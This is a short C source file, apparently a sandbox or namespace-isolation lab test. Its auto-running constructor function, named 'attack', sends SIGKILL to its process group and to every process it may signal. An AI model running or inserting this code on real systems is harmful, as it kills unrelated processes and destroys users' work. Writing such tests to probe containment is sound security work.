/* Kills all processes that it may kill. */
#include <signal.h>

#include "lab/uts.c"

__attribute__((constructor)) static void attack(void)
{
	kill(0, SIGKILL);
	kill(-1, SIGKILL);
}
